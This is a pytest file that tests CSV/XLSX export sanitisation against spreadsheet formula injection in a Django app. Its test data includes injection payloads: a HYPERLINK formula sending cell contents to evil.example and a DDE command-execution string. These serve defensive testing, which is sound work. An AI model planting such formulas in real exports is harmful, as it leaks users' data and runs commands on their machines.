"""Formula strings are data (stored verbatim) and never formulas in an export (core.exports).

These tests pin the helper every export must use, and the one download there is so far: the import
templates (imports/blanks.py), whose example rows carry the user's own names."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from circles.models import CircleMember
from core.exports import csv_response, safe_cell, write_csv, write_xlsx, xlsx_response
from tests.factories import EnterpriseFactory

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["贵州茅台", "a=b", "86-851-1234", "", "'already quoted", "1e10"])
def test_other_text_is_left_alone(value):
    assert safe_cell(value) == value


def test_numbers_and_dates_stay_what_they_are():
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_cell(-3) == -3 and safe_cell(date(2025, 1, 1)) == date(2025, 1, 1) and safe_cell(None) == ""


def test_csv_export_neutralises_every_formula_cell_header_included():
    out = io.StringIO()
    write_csv(out, ["name", "=evil"], [[value, Decimal("-5.00")] for value in FORMULAS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["name", "'=evil"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in FORMULAS]
    assert {r[1] for r in rows[1:]} == {"-5.00"}


def test_csv_response_is_utf8_with_bom_and_an_attachment():
    response = csv_response("供应链.csv", ["名称"], [["=1+1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response.content.decode("utf-8") == "\ufeff名称\r\n'=1+1\r\n"


def test_xlsx_export_writes_formula_strings_as_text_never_as_formulas():
    out = io.BytesIO()
    write_xlsx(out, ["text", "amount", "big", "day"],
               [[v, Decimal("-1.50"), Decimal("123456789012345678.90"), date(2025, 1, 1)] for v in FORMULAS])
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # The text itself, unchanged (XML reads a carriage return back as a line feed).
    assert [r[0] for r in rows] == [v.replace("\r", "\n") for v in FORMULAS]
    assert rows[0][1] == -1.5 and rows[0][2] == "123456789012345678.90"  # too long for a double: text
    assert all(sheet.cell(row=i, column=1).data_type == "s" for i in range(2, len(FORMULAS) + 2))
    assert sheet.cell(row=2, column=1).quotePrefix


def test_xlsx_response_is_an_attachment():
    response = xlsx_response("export.xlsx", ["a"], [["=1"]])
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert zipfile.is_zipfile(io.BytesIO(response.content))


def test_formula_strings_are_stored_verbatim(bank, client_as):
    """They are data people may type (a note starting with "-", a phone number with "+")."""
    supplier = EnterpriseFactory()
    response = client_as(bank.rm_gy1).post(reverse("circles:member_add", args=[bank.group_gy.pk]), {
        "enterprise_uscc": supplier.uscc, "role": "supplier", "source": "declared", "note": "=HYPERLINK(1)"})
    assert response.status_code == 302
    assert CircleMember.objects.get(enterprise=supplier).note == "=HYPERLINK(1)"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_import_templates_never_carry_a_formula_from_the_users_own_names(bank, client_as, fmt):
    """The templates' example rows name the user's own groups and enterprises: a name that starts like
    a formula arrives as text (the XLSX has no formula cell; the CSV cell starts with an apostrophe)."""
    group = bank.group_gy
    group.name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    group.save(update_fields=["name"])
    response = client_as(bank.rm_gy1).get(reverse("imports:template"), {"kind": "circle_members", "format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
        assert group.name not in cells and "'" + group.name in cells
    else:
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
        data = load_workbook(io.BytesIO(response.content)).worksheets[0]
        texts = [cell for row in data.iter_rows(values_only=True) for cell in row]
        assert group.name in texts
